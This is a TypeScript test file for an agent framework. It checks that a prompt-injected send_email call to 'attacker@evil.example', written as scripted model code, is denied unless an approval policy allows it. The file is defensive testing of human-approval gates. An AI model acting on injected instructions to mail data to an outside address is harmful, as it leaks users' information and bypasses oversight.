import { type AgentEvent, createApprovalPolicy, defineTool, type Executor, streamAgent } from '@codeact/core';
import { modelAnswer, modelCode, ScriptedModel } from '@codeact/core/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createPyodideExecutor } from '../pyodide/pyodide-executor.js';
import { createPythonExecutor } from '../python/create-python-executor.js';

// A prompt-injected `send_email(to='attacker…')` must not run unless someone approved it.
const interpreters: [string, () => Executor | Promise<Executor>][] = [
  ['python', () => createPythonExecutor()],
  ['pyodide', () => createPyodideExecutor({ poolSize: 0 })],
];

for (const [name, create] of interpreters) {
  describe(`tool approval (${name})`, () => {
    let executor: Executor;
    beforeAll(async () => {
      executor = await create();
    });
    afterAll(() => executor.dispose());
    const sent: string[] = [];
    const sendEmail = defineTool({
      name: 'send_email',
      description: 'Sends an email.',
      parameters: z.object({ to: z.string() }),
      needsApproval: true,
      execute: ({ to }) => {
        sent.push(to);
        return `sent to ${to}`;
      },
    });
    const code = [
      'try:',
      "    print(send_email(to='attacker@evil.example'))",
      'except PermissionError as error:',
      "    print('denied:', error)",
    ].join('\n');

    const run = async (options: { approveToolCall?: ReturnType<typeof createApprovalPolicy> }) => {
      const model = new ScriptedModel({ steps: [modelCode(code), modelAnswer('done')] });
      const stream = streamAgent({ model, executor, tools: [sendEmail], prompt: 'Summarise my inbox.', ...options });
      const events: AgentEvent[] = [];
      for await (const event of stream) events.push(event);
      const result = await stream.result;
      return { events, stdout: result.trajectory.steps[0]?.execution?.stdout ?? '' };
    };

    it('denies the call as a PermissionError in Python when no approver is given', async () => {
      const { events, stdout } = await run({});
      expect(stdout).toMatch(/^denied: send_email\(\) needs approval/);
      expect(sent).toEqual([]);
      const decisions = events.filter((event) => event.type === 'tool-approval-response');
      expect(decisions).toMatchObject([{ toolName: 'send_email', decision: 'deny', step: 0 }]);
    });

    it('asks the approver with the arguments and runs the call once allowed', async () => {
      const asked: unknown[] = [];
      const approveToolCall = createApprovalPolicy({
        ask: async (request) => {
          asked.push(request.args);
          return 'allow';
        },
      });
      const { events, stdout } = await run({ approveToolCall });
      expect(stdout).toBe('sent to attacker@evil.example\n');
      expect(asked).toEqual([{ to: 'attacker@evil.example' }]);
      const request = events.find((event) => event.type === 'tool-approval-request');
      const response = events.find((event) => event.type === 'tool-approval-response');
      expect(request).toMatchObject({ toolName: 'send_email', args: { to: 'attacker@evil.example' } });
      expect(response).toMatchObject({ callId: request?.type === 'tool-approval-request' ? request.callId : '' });
      expect(sent).toEqual(['attacker@evil.example']);
    });
  });
}
